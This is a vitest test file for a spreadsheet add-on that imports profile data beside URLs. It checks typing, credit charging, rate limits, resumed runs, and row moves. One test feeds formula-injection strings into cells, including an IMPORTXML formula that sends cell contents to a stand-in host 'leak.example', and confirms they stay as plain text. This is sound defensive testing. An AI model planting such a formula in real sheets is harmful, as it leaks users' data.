import { expect, test } from 'vitest';
import type { SpreadsheetFile } from '../harness/file.ts';
import { goodKey, people, setUpAddon } from '../spreadsheet-setup.ts';
import { ask, cells, importProperties, invented, openWithUrls, run, save, start, step, view } from './import-calls.ts';

const setup = setUpAddon();
const [ada = '', ben = ''] = Object.keys(people);
const unknownUrl = 'https://photo.example/unknown';

test('an import writes a status and typed values beside each URL, with ids as text, dates in UTC and unknown values empty', async () => {
  const retrievedAt = '2026-01-02T03:04:00.000Z';
  await setup.api.begin({
    keys: [goodKey],
    people: { ...people, [ada]: { ...people[ada], retrieved_at: retrievedAt } },
  });
  const file = await openWithUrls(setup, ada, unknownUrl, '', ben);
  const id = save(file, { source: cells('A2:A5') });
  expect(run(file, id).run).toMatchObject({ total: 3, done: 3, ok: 2, failed: 1, credits: 2, finished: true });
  expect(file.values('A1:F5')).toEqual([
    ['Profile', 'Status', 'Followers', 'Account ID', 'Bio', 'Retrieved at (UTC)'],
    [ada, 'OK', 1_200, '72057594037927937', 'Looms & numbers', expect.closeTo(46_024.12777, 4)],
    [unknownUrl, 'RESOURCE_NOT_FOUND', '', '', '', ''],
    ['', '', '', '', '', ''],
    [ben, 'OK', 5_400_000, '6800000000000000001', '', ''],
  ]);
  expect(file.types('B2:F2')).toEqual([['text', 'number', 'text', 'text', 'date']]);
  expect(importProperties(file)).toEqual([`import_${id}`]);
  expect(view(file, id)).toMatchObject({ run: null, last: { ok: 2, failed: 1, credits: 2, message: 'Finished.' } });
});

test('an import writes hostile text unchanged, even into cells with the plain text format', async () => {
  const texts = [
    '=IMPORTXML("http://leak.example/?"&A1,"//a")',
    '+1',
    '-2+3',
    '@SUM(A1)',
    "'quoted",
    '0012',
    '1/2',
    'TRUE',
  ];
  const hostile = Object.fromEntries(texts.map((bio, index) => [`https://photo.example/${index}`, { bio }]));
  await setup.api.begin({ keys: [goodKey], people: hostile });
  const file = await openWithUrls(setup, ...Object.keys(hostile));
  file.format('B2:E9', '@');
  run(file, save(file, { source: cells('A2:A9'), fields: ['bio'] }));
  expect(file.values('C2:C9').flat()).toEqual(texts);
  expect(new Set(file.types('C2:C9').flat())).toEqual(new Set(['text']));
  expect(Object.values(file.sheet()).filter((cell) => cell.formula !== undefined)).toEqual([]);
});

test('an import cuts text at 50,000 characters, the limit of a cell', async () => {
  await setup.api.begin({ keys: [goodKey], people: { [ada]: { bio: 'x'.repeat(60_000) } } });
  const file = await openWithUrls(setup, ada);
  run(file, save(file, { source: cells('A2'), fields: ['bio'] }));
  expect(String(file.values('C2')[0]?.[0])).toHaveLength(50_000);
});

test('an import step has at most twenty rows, and a run continues where it stopped after the sidebar is reopened', async () => {
  const many = invented(45);
  await setup.api.begin({ keys: [goodKey], people: many });
  const file = await openWithUrls(setup, ...Object.keys(many));
  const id = save(file, { source: cells('A2:A1000', true), fields: ['followers'] });
  start(file, id);
  expect(step(file, id).run).toMatchObject({ total: 45, done: 20, credits: 20, finished: false });
  const filled = file.values('C2:C46').flat();
  expect(filled.filter((cell) => cell !== '')).toHaveLength(20);
  expect(view(file, id).run).toMatchObject({ done: 20, total: 45 });
  expect(step(file, id).run.done).toBe(40);
  expect(step(file, id).run).toMatchObject({ done: 45, credits: 45, finished: true });
  expect(file.values('C2:C46').flat()).toEqual(Array.from({ length: 45 }, (_, index) => index));
  expect((await setup.api.log()).credits_charged).toBe(45);
});

test('rows that are sorted or removed during an import keep their values beside their URLs, and removed rows cost nothing', async () => {
  const many = invented(45);
  await setup.api.begin({ keys: [goodKey], people: many });
  const urls = Object.keys(many);
  const file = await openWithUrls(setup, ...urls);
  const id = save(file, { source: cells('A2:A46'), fields: ['followers'] });
  start(file, id);
  step(file, id);
  const backwards = [...urls].reverse();
  file.type('A2', ...backwards.map((url, index) => (index < 5 ? '' : url)));
  file.type('B2', ...Array(45).fill(''));
  file.type('C2', ...Array(45).fill(''));
  step(file, id);
  const end = run(file, id).run;
  expect(end).toMatchObject({ total: 45, done: 40, ok: 40, removed: 5, finished: true });
  const shown = file.values('A2:C46').filter(([, status]) => status !== '');
  expect(shown.map(([url, , followers]) => [url, followers])).toEqual(
    backwards.slice(5, 25).map((url) => [url, many[url]?.followers]),
  );
  expect((await setup.api.log()).credits_charged).toBe(40);
  expect(view(file, id).last?.message).toBe('Finished, 5 no longer in the sheet.');
});

test('rows and columns that are inserted during an import do not separate a value from its row and column', async () => {
  const many = invented(45);
  await setup.api.begin({ keys: [goodKey], people: many });
  const file = await openWithUrls(setup, ...Object.keys(many));
  const id = save(file, { source: cells('A2:A46'), fields: ['followers', 'bio'] });
  start(file, id);
  step(file, id);
  file.insertRows(10, 3);
  file.insertRows(1, 2);
  file.insertColumns(3, 1);
  file.insertColumns(1, 1);
  expect(run(file, id).run).toMatchObject({ done: 45, ok: 45, finished: true });
  const rows = file.values('B4:F51').filter(([url]) => url !== '');
  expect(rows).toEqual(Object.entries(many).map(([url, { followers, bio }]) => [url, 'OK', '', followers, bio]));
  expect((await setup.api.log()).credits_charged).toBe(45);
});

test('URLs that are added during an import wait for its next run, because their cost was not shown', async () => {
  const many = invented(30);
  const urls = Object.keys(many);
  await setup.api.begin({ keys: [goodKey], people: many });
  const file = await openWithUrls(setup, ...urls.slice(0, 25));
  const id = save(file, { source: cells('A2:A1000', true), fields: ['followers'] });
  start(file, id);
  step(file, id);
  file.type('A2', ...[...urls.slice(25), ...urls.slice(0, 25)]);
  expect(run(file, id).run).toMatchObject({ total: 25, done: 25, finished: true });
  expect((await setup.api.log()).credits_charged).toBe(25);
  expect(run(file, id).run).toMatchObject({ total: 30, credits: 5 });
});

test('an import that reaches the rate limit waits for a known time and continues without losing rows', async () => {
  const file = await openWithUrls(setup, ada, ben);
  const limit = {
    status: 429,
    headers: { 'retry-after': '41' },
    body: '{"error":{"code":"RATE_LIMITED","message":""}}',
  };
  const id = save(file, { source: cells('A2:A3') });
  start(file, id);
  await setup.api.begin({ keys: [goodKey], people, answers: [limit] });
  expect(step(file, id)).toMatchObject({ wait_s: 41, stopped: null, run: { done: 0, total: 2 } });
  expect(step(file, id)).toMatchObject({ wait_s: null, run: { done: 2, credits: 2, finished: true } });
});

test.each([
  ['no credits', 402, 'INSUFFICIENT_CREDITS', 'are used up'],
  ['a revoked key', 401, 'INVALID_API_KEY', 'revoked'],
  ['a broken server', 502, '', 'cannot answer'],
])('%s stops an import with a sentence, and the import can continue later', async (_, status, code, words) => {
  const file = await openWithUrls(setup, ada, ben);
  const id = save(file, { source: cells('A2:A3') });
  start(file, id);
  await setup.api.begin({ keys: [goodKey], people, answers: [{ status, body: `{"error":{"code":"${code}"}}` }] });
  const stopped = step(file, id);
  expect(stopped).toMatchObject({ wait_s: null, stopped: expect.stringContaining(words), run: { done: 0 } });
  expect(view(file, id).stopped).toContain(words);
  expect(step(file, id).run).toMatchObject({ done: 2, finished: true });
});

test('after a top-up, an import requests again only the rows for which credits were missing', async () => {
  await setup.api.begin({
    keys: [goodKey],
    people: { ...people, [ben]: { status: 'INSUFFICIENT_CREDITS', credits_charged: 0 } },
  });
  const file = await openWithUrls(setup, ada, ben);
  const id = save(file, { source: cells('A2:A3'), max_age: 'fresh' });
  start(file, id);
  expect(step(file, id)).toMatchObject({ stopped: expect.stringContaining('Add credits'), run: { done: 1, ok: 1 } });
  await setup.api.begin({ keys: [goodKey], people });
  expect(step(file, id).run).toMatchObject({ done: 2, ok: 2, finished: true });
  const { requests } = await setup.api.log();
  expect(requests.flatMap(({ parameters }) => parameters.url ?? [])).toEqual([ben]);
});

/**
 * Restores an earlier state of the saved run, as if Google had stopped the script after a step had paid for and written
 * its rows, but before the step was saved.
 */
function stopBeforeSaving(file: SpreadsheetFile, id: string, before: string): void {
  const { document } = file.world().properties;
  const marks = document[`import_${id}_run_0`]?.match(/.{9}/g) ?? [];
  const lease = { by: 'stopped', until_ms: file.world().now_ms + 60_000 };
  delete document[`import_${id}_run_0`];
  document[`import_${id}_run`] = JSON.stringify({ ...JSON.parse(before), lease, uncertain: marks });
}

test('an import does not pay twice for fresh data whose answer was lost, even when the rows were sorted in between', async () => {
  const many = invented(30);
  await setup.api.begin({ keys: [goodKey], people: many });
  const urls = Object.keys(many);
  const file = await openWithUrls(setup, ...urls);
  const id = save(file, { source: cells('A2:A31'), fields: ['followers'], max_age: 'fresh' });
  start(file, id);
  // Loses the answer to the first step. The step's rows may then already have been charged.
  await setup.api.begin({ keys: [goodKey], people: many, answers: [{ status: 502, body: '' }] });
  expect(step(file, id).stopped).toContain('cannot answer');
  file.type('A2', ...[...urls].reverse());
  const lost = step(file, id);
  expect(lost.run).toMatchObject({ done: 20 });
  const asked = (await setup.api.log()).requests.at(-1)?.parameters;
  expect(asked).toMatchObject({ fresh: [], cache_max_age: ['1d'] });
  expect(new Set(asked?.url)).toEqual(new Set(urls.slice(0, 20)));
  expect(step(file, id).run).toMatchObject({ done: 30, finished: true });
  expect((await setup.api.log()).requests.at(-1)?.parameters).toMatchObject({ fresh: ['true'], cache_max_age: [] });
});

test('an import does not pay twice for fresh data whose answer was lost, even when another request of the step was refused', async () => {
  await setup.api.begin({ keys: [goodKey], people });
  const file = await openWithUrls(setup, ada, '@nasa');
  const id = save(file, { source: cells('A2:A3'), platform: 'photo', fields: ['followers'], max_age: 'fresh' });
  start(file, id);
  const refused = { status: 429, headers: { 'retry-after': '50' }, body: '{}' };
  await setup.api.begin({ keys: [goodKey], people, answers: [refused, { status: 502, body: '' }] });
  expect(step(file, id)).toMatchObject({ wait_s: 50, run: { done: 0 } });
  step(file, id);
  const asked = (await setup.api.log()).requests.at(-1)?.parameters;
  expect(asked).toMatchObject({ url: ['@nasa'], fresh: [], cache_max_age: ['1d'] });
});

test.each([
  ['append', 'Etc/UTC'],
  ['append', 'America/New_York'],
  ['update', 'Etc/UTC'],
  ['replace', 'Etc/UTC'],
])(
  'after Google stopped a script that had written rows (%s, %s), another window continues after a minute and never pays for or writes a row twice',
  async (mode, zone) => {
    const many = invented(30);
    await setup.api.begin({ keys: [goodKey], people: many });
    const file = await openWithUrls(setup, ...Object.keys(many));
    file.set({ time_zone: zone });
    const target = { sheet: 'Rows', a1: 'A1' };
    const id = save(file, { source: cells('A2:A31'), mode, target, fields: ['followers'], max_age: 'fresh' });
    start(file, id);
    const before = file.world().properties.document[`import_${id}_run`] ?? '';
    step(file, id);
    stopBeforeSaving(file, id, before);
    expect(step(file, id)).toMatchObject({ wait_s: 60, run: { done: 0 } });
    file.pass(61_000);
    expect(run(file, id).run).toMatchObject({ done: 30, ok: 30, finished: true });
    const column = file.values('A1:Z1', 'Rows')[0]?.indexOf('URL') ?? -1;
    const urls = file.values('A2:Z100', 'Rows').map((row) => row[column]);
    expect(urls.filter((url) => url !== '')).toEqual(Object.keys(many));
    expect((await setup.api.log()).credits_charged).toBe(30);
  },
);

test('starting an unfinished import again continues it, and cancelling it keeps the written rows', async () => {
  const many = invented(25);
  await setup.api.begin({ keys: [goodKey], people: many });
  const file = await openWithUrls(setup, ...Object.keys(many));
  const id = save(file, { source: cells('A2:A26'), fields: ['followers'] });
  start(file, id);
  step(file, id);
  expect(start(file, id).run.done).toBe(20);
  expect(ask(file, 'sidebarImportCancel', id)).toMatchObject({ ok: true, imports: [{ run: null }] });
  expect(ask(file, 'sidebarImportStep', id)).toMatchObject({ ok: false });
  expect(importProperties(file)).toEqual([`import_${id}`]);
  expect(file.values('C21:C22').flat()).toEqual([19, '']);
  expect(view(file, id).last?.message).toBe('Cancelled, 5 not requested.');
});

test('an import stops while another user writes to the file, and continues later without losing rows', async () => {
  const file = await openWithUrls(setup, ada);
  const id = save(file, { source: cells('A2') });
  start(file, id);
  file.holdLock(120_000);
  expect(ask(file, 'sidebarImportStep', id)).toMatchObject({
    ok: false,
    message: expect.stringContaining('Another user'),
  });
  file.pass(121_000);
  expect(step(file, id).run.finished).toBe(true);
});

test('the list of imports shows the new name of a renamed sheet', async () => {
  const file = await openWithUrls(setup, ada);
  const id = save(file, { source: cells('A2'), target: { sheet: 'Rows', a1: 'A1' } });
  run(file, id);
  file.renameSheet('Rows', 'Creators in May');
  expect(view(file, id).target).toBe('in the sheet “Creators in May”');
  file.deleteSheet('Creators in May');
  expect(view(file, id).target).toBe('in the sheet “Rows”');
});
